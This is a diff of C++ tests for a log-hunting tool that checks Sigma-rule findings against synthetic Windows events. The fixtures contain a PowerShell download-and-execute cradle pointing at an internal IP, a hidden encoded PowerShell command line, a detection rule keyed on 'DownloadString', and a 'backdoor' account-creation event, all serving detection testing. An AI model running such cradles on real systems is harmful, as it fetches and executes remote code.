@@ -68,9 +68,10 @@ struct Hunted {
   test::RunResult hunt;
 };
 
-// Ingests what `write` exports and runs the built-in rules.
+// Ingests what `write` exports and hunts: with the built-in rules, or with only `sigma` (the
+// text of a Sigma rule file) when it is given.
 template <typename Write>
-void hunt_export(Hunted& h, Write write) {
+void hunt_export(Hunted& h, Write write, const std::string& sigma = "") {
   const std::string log = h.dir.file("siem.json");
   {
     Export e(log);
@@ -80,7 +81,12 @@ void hunt_export(Hunted& h, Write write) {
   auto ingest = test::run_treeline({"ingest", "-q", h.db, log});
   INFO(ingest.err);
   REQUIRE(ingest.exit_code == 0);
-  h.hunt = test::run_treeline({"hunt", h.db, "--format", "json"});
+  std::vector<std::string> args = {"hunt", h.db, "--format", "json"};
+  if (!sigma.empty()) {
+    std::ofstream(h.dir.file("rules.yml")) << sigma;
+    args.insert(args.end(), {"--no-builtin", "--sigma", h.dir.file("rules.yml")});
+  }
+  h.hunt = test::run_treeline(args);
   INFO(h.hunt.err);
   REQUIRE(h.hunt.exit_code == 0);
 }
@@ -280,17 +286,8 @@ TEST_CASE("Built-in Sigma: the audit trail removed, then activity within the hou
 }
 
 TEST_CASE("A script block (4104) belongs to the PowerShell process that logged it (Execution ProcessID)", "[sigma][cli]") {
-  test::TempDir dir;
-  {
-    std::ofstream rule(dir.file("rules.yml"));
-    rule << "title: download cradle in a script block\nid: 00000000-0000-4000-8000-000000000021\nlevel: high\n"
-            "logsource:\n  product: windows\n  category: ps_script\ndetection:\n"
-            "  sel:\n    ScriptBlockText|contains: 'DownloadString'\n  condition: sel\n";
-  }
   Hunted h;
-  const std::string log = h.dir.file("siem.json");
-  {
-    Export e(log);
+  hunt_export(h, [](Export& e) {
     auto process = [&](double t, const std::string& pid, const std::string& ppid, const std::string& image,
                        const std::string& parent, const std::string& cmd) {
       e.add("WKS07.corp.local", t, "Security", 4688,
@@ -301,63 +298,48 @@ TEST_CASE("A script block (4104) belongs to the PowerShell process that logged i
     process(0, "0x1f00", "0x1000", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\explorer.exe", "cmd.exe");
     process(5, "0x1a2c", "0x1f00", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
             "C:\\Windows\\System32\\cmd.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA");
-    const std::string ps = "Microsoft-Windows-PowerShell/Operational";
-    e.add("WKS07.corp.local", 6, ps, 4104,
-          {{"MessageNumber", "1"}, {"MessageTotal", "1"}, {"ScriptBlockId", "{5f0d}"},
-           {"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.66/a')"}},
-          "Microsoft-Windows-PowerShell", 0x1a2c);
-    // The same text logged by a PID that no process held then: a finding with no process.
-    e.add("WKS07.corp.local", 7, ps, 4104,
-          {{"MessageNumber", "1"}, {"MessageTotal", "1"}, {"ScriptBlockId", "{6a1e}"},
-           {"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.66/b')"}},
-          "Microsoft-Windows-PowerShell", 4242);
-  }
-  h.db = h.dir.file("case.db");
-  REQUIRE(test::run_treeline({"ingest", "-q", h.db, log}).exit_code == 0);
+    auto block = [&](double t, const std::string& id, const std::string& url, int pid) {
+      e.add("WKS07.corp.local", t, "Microsoft-Windows-PowerShell/Operational", 4104,
+            {{"MessageNumber", "1"}, {"MessageTotal", "1"}, {"ScriptBlockId", id},
+             {"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('" + url + "')"}},
+            "Microsoft-Windows-PowerShell", pid);
+    };
+    block(6, "{5f0d}", "http://10.0.0.66/a", 0x1a2c);
+    block(7, "{6a1e}", "http://10.0.0.66/b", 4242);  // a PID no process held then: no process
+  }, "title: download cradle in a script block\nid: 00000000-0000-4000-8000-000000000021\nlevel: high\n"
+     "logsource:\n  product: windows\n  category: ps_script\ndetection:\n"
+     "  sel:\n    ScriptBlockText|contains: 'DownloadString'\n  condition: sel\n");
   CHECK(test::scalar(h.db, "SELECT count(*) FROM events_v WHERE event_id = 4104 AND execution_pid IS NOT NULL") == 2);
-  auto hunt = test::run_treeline({"hunt", h.db, "--no-builtin", "--sigma", dir.file("rules.yml"), "--format", "json"});
-  INFO(hunt.err);
-  REQUIRE(hunt.exit_code == 0);
-  CHECK(count(h, "rule_id = '00000000-0000-4000-8000-000000000021'") == 2);
-  CHECK(count(h, "rule_id = '00000000-0000-4000-8000-000000000021' AND image LIKE '%\\powershell.exe' AND pid = 6700") == 1);
-  CHECK(count(h, "rule_id = '00000000-0000-4000-8000-000000000021' AND process_key IS NULL") == 1);
+  const std::string rule = "rule_id = '00000000-0000-4000-8000-000000000021'";
+  CHECK(count(h, rule) == 2);
+  CHECK(count(h, rule + " AND image LIKE '%\\powershell.exe' AND pid = 6700") == 1);
+  CHECK(count(h, rule + " AND process_key IS NULL") == 1);
   // Its chain is the process: the report's ancestry (cmd.exe, then explorer) comes from the tree.
   CHECK(test::scalar(h.db, "SELECT count(*) FROM findings f JOIN process_edges e ON e.child_key = f.process_key "
-                           "JOIN processes p ON p.process_key = e.parent_key WHERE f.rule_id = "
-                           "'00000000-0000-4000-8000-000000000021' AND p.image LIKE '%\\cmd.exe'") == 1);
+                           "JOIN processes p ON p.process_key = e.parent_key WHERE f." + rule +
+                           " AND p.image LIKE '%\\cmd.exe'") == 1);
 }
 
 TEST_CASE("A Security event with no process still names its logon: the finding says whose session, from where", "[sigma][cli]") {
-  test::TempDir dir;
-  {
-    std::ofstream rule(dir.file("rules.yml"));
-    rule << "title: user account created\nid: 00000000-0000-4000-8000-000000000031\nlevel: medium\n"
-            "logsource:\n  product: windows\n  service: security\ndetection:\n  sel:\n    EventID: 4720\n"
-            "  condition: sel\n";
-  }
   Hunted h;
-  const std::string log = h.dir.file("siem.json");
-  {
-    Export e(log);
+  hunt_export(h, [](Export& e) {
     e.add("DC01.corp.local", 0, "Security", 4624,
           {{"TargetUserName", "mallory"}, {"TargetDomainName", "CORP"}, {"TargetLogonId", "0x5a3c1"},
            {"LogonType", "10"}, {"LogonProcessName", "User32"}, {"AuthenticationPackageName", "Negotiate"},
            {"IpAddress", "10.0.0.66"}, {"KeyLength", "0"}});
-    e.add("DC01.corp.local", 60, "Security", 4720,
-          {{"TargetUserName", "backdoor"}, {"TargetSid", "S-1-5-21-7-1601"}, {"SubjectUserName", "mallory"},
-           {"SubjectDomainName", "CORP"}, {"SubjectLogonId", "0x5a3c1"}});
-    // The same logon id, but no logon before it on this host: nothing to say.
-    e.add("DC02.corp.local", 60, "Security", 4720,
-          {{"TargetUserName", "backdoor2"}, {"TargetSid", "S-1-5-21-7-1602"}, {"SubjectUserName", "mallory"},
-           {"SubjectDomainName", "CORP"}, {"SubjectLogonId", "0x5a3c1"}});
-  }
-  h.db = h.dir.file("case.db");
-  REQUIRE(test::run_treeline({"ingest", "-q", h.db, log}).exit_code == 0);
-  auto hunt = test::run_treeline({"hunt", h.db, "--no-builtin", "--sigma", dir.file("rules.yml"), "--format", "json"});
-  INFO(hunt.err);
-  REQUIRE(hunt.exit_code == 0);
-  CHECK(count(h, "rule_id = '00000000-0000-4000-8000-000000000031'") == 2);
-  CHECK(count(h, "rule_id = '00000000-0000-4000-8000-000000000031' AND host = 'dc01' AND user_name = 'CORP\\mallory' "
-                 "AND ip_address = '10.0.0.66' AND logon_type = 10 AND process_key IS NULL") == 1);
-  CHECK(count(h, "rule_id = '00000000-0000-4000-8000-000000000031' AND host = 'dc02' AND user_name IS NULL") == 1);
+    auto created = [&](const std::string& host, const std::string& name) {
+      e.add(host, 60, "Security", 4720,
+            {{"TargetUserName", name}, {"TargetSid", "S-1-5-21-7-1601"}, {"SubjectUserName", "mallory"},
+             {"SubjectDomainName", "CORP"}, {"SubjectLogonId", "0x5a3c1"}});
+    };
+    created("DC01.corp.local", "backdoor");
+    created("DC02.corp.local", "backdoor2");  // the same logon id, but no logon before it on this host
+  }, "title: user account created\nid: 00000000-0000-4000-8000-000000000031\nlevel: medium\n"
+     "logsource:\n  product: windows\n  service: security\ndetection:\n  sel:\n    EventID: 4720\n"
+     "  condition: sel\n");
+  const std::string rule = "rule_id = '00000000-0000-4000-8000-000000000031'";
+  CHECK(count(h, rule) == 2);
+  CHECK(count(h, rule + " AND host = 'dc01' AND user_name = 'CORP\\mallory' AND ip_address = '10.0.0.66' "
+                        "AND logon_type = 10 AND process_key IS NULL") == 1);
+  CHECK(count(h, rule + " AND host = 'dc02' AND user_name IS NULL") == 1);
 }
